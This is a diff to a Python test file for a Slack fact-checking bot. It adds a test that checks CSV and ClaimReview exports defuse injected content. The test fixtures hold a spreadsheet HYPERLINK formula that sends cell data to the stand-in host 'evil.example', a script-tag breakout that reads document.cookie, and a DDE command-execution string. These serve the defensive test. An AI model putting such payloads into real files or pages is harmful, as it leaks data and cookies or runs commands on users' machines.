@@ -8,6 +8,8 @@ HTTP requests to the bot and the Slack stand-in, on SQLite or PostgreSQL (TEST_D
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 from typing import Any
 
@@ -25,6 +27,8 @@ from tests.harness.posts import row_count
 from tests.harness.slack_api import BOT_USER_ID
 from tests.harness.waiting import assert_quiet, wait_idle, wait_until
 from tests.test_desk import EDITOR, PRIVATE, claims_answer, seed
+from tests.test_desk_workflow import export
+from tests.test_desk_workflow import seed as seed_claim
 
 OUTSIDER = "U0OUTSIDER"
 
@@ -258,3 +262,27 @@ def test_channel_privacy_and_members_follow_slacks_channel_events(bot: RunningBo
     wait_until(lambda: (bot.services.directory.recorded("C0ROOM") or UNKNOWN).members, 10, "members recorded again")
     channel_event(bot, {"type": "group_left", "channel": "C0ROOM"})
     assert "Roomclaim" not in visible_texts(bot, REPORTER)
+
+
+# -- exports --------------------------------------------------------------------------------------------
+
+FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"click")'
+SCRIPT = "</script><script>alert(document.cookie)</script> & <!--"
+
+
+def test_exports_neutralise_formulas_and_cannot_close_a_script_tag(bot: RunningBot, database_url: str) -> None:
+    claim_id = seed_claim(bot, FORMULA, status="resolved", verdict="false", published_url="https://desk.example/a")
+    with bot.services.db.session() as session:
+        claim = session.get(Claim, claim_id)
+        assert claim is not None
+        claim.explanation, claim.speaker = SCRIPT, "@SUM(1+1)*cmd|' /C calc'!A0"
+        claim.article.title = "+1 and -1 and \tTab"
+    rows = list(csv.DictReader(io.StringIO(export(bot, database_url, "--format", "csv").stdout)))
+    row = next(r for r in rows if r["claim_id"] == str(claim_id))
+    assert row["claim"] == "'" + FORMULA and row["speaker"].startswith("'@") and row["article_title"][0] == "'"
+    assert row["explanation"] == SCRIPT  # not a formula: left as it is
+    assert not any(value[:1] in "=+-@\t\r" for r in rows for value in r.values() if value)
+    text = export(bot, database_url, "--format", "claimreview").stdout
+    assert "<" not in text and ">" not in text and "&" not in text
+    review = next(r for r in json.loads(text) if r["claimReviewed"] == FORMULA)
+    assert review["reviewBody"] == SCRIPT and review["reviewRating"]["ratingExplanation"] == SCRIPT
